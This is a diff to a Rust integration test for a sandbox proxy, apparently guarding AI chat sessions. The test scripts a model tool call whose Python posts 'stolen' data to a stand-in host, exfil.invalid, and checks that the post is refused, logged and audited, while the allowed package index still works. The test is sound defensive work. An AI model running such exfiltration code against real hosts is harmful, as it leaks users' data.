@@ -6,6 +6,7 @@
 mod common;
 
 use common::*;
+use interlock_testkit::{Reply, ScriptedServer};
 
 /// Exfiltration attempts from inside the sandbox; one line each: `NAME ok …` or `NAME err …`.
 const ATTEMPTS: &str = r#"
@@ -182,4 +183,65 @@ fn pip_download_works_when_the_index_is_allowed() {
         "stdout:\n{so}\nstderr:\n{se}"
     );
     assert!(!se.contains("interlock: network: blocked"), "{se}");
+}
+
+/// The model's block in a chat session (`interlock exec`): the same proxy serves the session's
+/// sandbox; a planted exfiltration is refused, shown and audited, and the allowed index works.
+const CHAT_BLOCK: &str = r#"
+import subprocess, sys, urllib.request, urllib.error
+try:
+    urllib.request.urlopen("http://exfil.invalid/upload", data=b"stolen", timeout=20)
+    print("exfil ok")
+except urllib.error.HTTPError as e:
+    print("exfil err", e.code, e.headers.get("X-Interlock-Denied"))
+except Exception as e:
+    print("exfil err", type(e).__name__)
+r = subprocess.run([sys.executable, "-m", "pip", "download", "--no-deps", "--retries", "0",
+                    "-d", "/tmp/dl", "six"], capture_output=True, text=True)
+print("pip", r.returncode, "blocked" if "403" in r.stdout + r.stderr else "")
+"#;
+
+#[test]
+fn a_chat_sessions_code_goes_out_only_through_the_proxy() {
+    if !userns() || !have("/usr/bin/python3") {
+        return;
+    }
+    let env = Env::new();
+    let srv = ScriptedServer::start_background(vec![
+        Reply::tool_call_stream("c1", "python", CHAT_BLOCK),
+        Reply::text_stream("done"),
+    ]);
+    let mut c = env.cmd(&srv.base_url());
+    c.args([
+        "exec",
+        "--auto-run",
+        "--auto-run-max-risk",
+        "high",
+        "--json",
+        "--allow-net",
+        "pypi",
+        "go",
+    ]);
+    let out = run(c);
+    let text = output_text(&events(&out));
+    let se = stderr(&out);
+    eprintln!(
+        "stdout:\n{}\nstderr:\n{se}",
+        String::from_utf8_lossy(&out.stdout)
+    );
+    assert!(text.contains("exfil err 403 not-allowed"), "{text}");
+    assert!(
+        se.contains("interlock: network: blocked exfil.invalid:80:"),
+        "{se}"
+    );
+    let audit = audit_export(&env);
+    assert!(
+        audit
+            .lines()
+            .any(|l| l.contains("net.denied") && l.contains("exfil.invalid")),
+        "{audit}"
+    );
+    // pip either worked (this machine reaches the index) or failed for want of a route, never
+    // because the proxy refused the index.
+    assert!(!text.contains("pip 1 blocked"), "{text}");
 }
